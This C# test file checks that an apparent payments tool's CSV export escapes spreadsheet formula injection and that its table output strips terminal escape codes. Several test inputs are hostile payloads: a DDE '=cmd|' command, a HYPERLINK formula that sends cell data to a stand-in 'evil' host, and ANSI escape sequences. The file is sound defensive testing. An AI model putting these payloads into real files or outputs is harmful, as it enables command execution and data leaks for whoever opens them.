using System.CommandLine;
using EGovPay.Processing.People;
using EGovPay.Terminals.CommandLine;
using EGovPay.Tests.PostgreSql;
using FluentAssertions;
using FsCheck;
using FsCheck.Fluent;
using Xunit;

namespace EGovPay.Tests.CommandLine;

/// <summary>Lists as CSV: what somebody wrote into a name or a reason is text in a spreadsheet, and never runs.</summary>
public sealed class Spreadsheets(TestDatabase database) : IClassFixture<TestDatabase>
{
    private static readonly System.Buffers.SearchValues<char> Starts = System.Buffers.SearchValues.Create("=+-@\t\r＝＋－＠");

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil/\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"")]
    [InlineData("+994501234567", "'+994501234567")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "\"'\t'=1\"")]
    [InlineData("\r=1", "\"'\r'=1\"")]
    [InlineData(" =1", " '=1")]
    [InlineData("x;=1", "\"x;'=1\"")]
    [InlineData("x\n=1", "\"x\n'=1\"")]
    [InlineData("＝1", "'＝1")]
    [InlineData("\0=1", "\uFFFD=1")]
    [InlineData("-12.50", "-12.50")]
    [InlineData("12.50", "12.50")]
    [InlineData("-5", "-5")]
    [InlineData("-", "'-")]
    [InlineData("-5 AZN", "'-5 AZN")]
    [InlineData("a-b=c", "a-b=c")]
    [InlineData("Əli, \"Bakı\"", "\"Əli, \"\"Bakı\"\"\"")]
    [InlineData("", "")]
    public void A_cell_is_a_number_or_a_text_and_never_a_formula(string text, string cell) => WriteCsv.Cell(text).Should().Be(cell);

    [Fact]
    public void Whatever_is_written_comes_back_cell_by_cell_and_begins_no_formula() =>
        Prop.ForAll(ArbMap.Default.ArbFor<NonNull<string>[]>(), cells =>
        {
            using var written = new StringWriter();
            var given = cells.Select(cell => cell.Get).Append("=1").ToArray();
            WriteCsv.To(written, given, [given]);
            var rows = Read(written.ToString());
            return rows.Count == 2 && rows.All(row => row.Length == given.Length)
                && rows[1].All(cell => cell.Length == 0 || !Starts.Contains(cell[0]) || double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _));
        }).QuickCheckThrowOnFailure();

    [Fact]
    public async Task Hostile_names_and_reasons_are_text_in_every_list_and_a_list_says_that_there_is_more()
    {
        var people = await TestPeople.OfAsync(database);
        await people.AddAsync(new Person("evil", "=HYPERLINK(\"http://evil/\")", [Role.Operator]));
        await database.ExecuteAsync(
            """
            insert into agent (agent_id, lane, code, name) values (1600, 1, 'a1', '+cmd|calc'), (1616, 1, 'a2', 'İkinci; =1');
            insert into funds (agent_id, debits_posted, credits_posted, credit_limit) values (1600, 1250, 0, 5000), (1616, 0, 0, 0);
            """);

        var users = await RunAsync("user", "list", "--format", "csv");
        users.Rows.Single(row => row[0] == "evil")[1].Should().Be("'=HYPERLINK(\"http://evil/\")");
        var agents = await RunAsync("agent", "list", "--format", "csv");
        agents.Rows[0].Should().Equal("agent", "name", "state", "balance", "held", "credit limit", "points", "terminals");
        agents.Rows.Single(row => row[0] == "a1")[1].Should().Be("'+cmd|calc");
        agents.Rows.Single(row => row[0] == "a1")[3].Should().Be("-12.50", "an amount below zero is a number");
        agents.Rows.Single(row => row[0] == "a2")[1].Should().Be("İkinci; '=1");
        agents.Text.Should().StartWith("\uFEFF").And.EndWith("\r\n");
        agents.Errors.Should().BeEmpty();

        var first = await RunAsync("agent", "list", "--format", "csv", "--limit", "1");
        first.Rows.Should().HaveCount(2);
        first.Errors.Should().Contain("more").And.Contain("--after a1");
        (await RunAsync("agent", "list", "--format", "csv", "--after", "a1")).Rows.Select(row => row[0]).Should().NotContain("a1").And.Contain("a2");
        var record = await RunAsync("record", "list", "--format", "csv", "--limit", "1");
        record.Rows.Should().HaveCount(2);
        record.Errors.Should().Contain("--before");
        foreach (var list in new[] { "proposal list", "payment unknown", "payment contradictions", "telling dead", "webhook list" })
        {
            (await RunAsync([.. list.Split(' '), "--format", "csv"])).Rows.Should().HaveCount(1, list);
        }

        (await RunAsync("agent", "list")).Text.Should().Contain("+cmd|calc", "a table is no spreadsheet");
        await FluentActions.Awaiting(() => RunAsync("agent", "list", "--format", "xls")).Should().ThrowAsync<CommandException>();
        await FluentActions.Awaiting(() => RunAsync("agent", "list", "--limit", "0")).Should().ThrowAsync<CommandException>();
        await FluentActions.Awaiting(() => RunAsync("agent", "list", "--limit", "10001")).Should().ThrowAsync<CommandException>();
    }

    [Fact]
    public async Task What_somebody_else_wrote_sends_no_command_to_the_terminal_that_shows_it()
    {
        using var output = new StringWriter();
        await Task.Yield();
        Print.Table(output, null, ["name"], [["\u001b[2J\u009b31mred\r\nfake row"]]);
        output.ToString().Should().NotContain("\u001b").And.NotContain("\u009b").And.Contain("red");
    }

    private async Task<(string Text, List<string[]> Rows, string Errors)> RunAsync(params string[] arguments)
    {
        using var output = new StringWriter();
        using var errors = new StringWriter();
        var parsed = RunCommandLine.Build().Parse([.. arguments, "--database", database.ConnectionString]);
        parsed.Errors.Should().BeEmpty();
        (await parsed.InvokeAsync(
            new InvocationConfiguration { Output = output, Error = errors, EnableDefaultExceptionHandler = false },
            TestContext.Current.CancellationToken)).Should().Be(0);
        return (output.ToString(), Read(output.ToString()), errors.ToString());
    }

    /// <summary>RFC 4180, read as it says.</summary>
    private static List<string[]> Read(string text)
    {
        var (rows, row, cell) = (new List<string[]>(), new List<string>(), new System.Text.StringBuilder());
        var quoted = false;
        text = text.TrimStart('\uFEFF');
        for (var i = 0; i < text.Length; i++)
        {
            if (quoted)
            {
                if (text[i] != '"')
                {
                    cell.Append(text[i]);
                }
                else if (i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append(text[i++]);
                }
                else
                {
                    quoted = false;
                }
            }
            else if (text[i] == '"')
            {
                quoted = true;
            }
            else if (text[i] == ',' || (text[i] == '\r' && text[i + 1] == '\n'))
            {
                row.Add(cell.ToString());
                cell.Clear();
                if (text[i] == '\r')
                {
                    i++;
                    rows.Add([.. row]);
                    row.Clear();
                }
            }
            else
            {
                cell.Append(text[i]);
            }
        }

        return rows;
    }
}
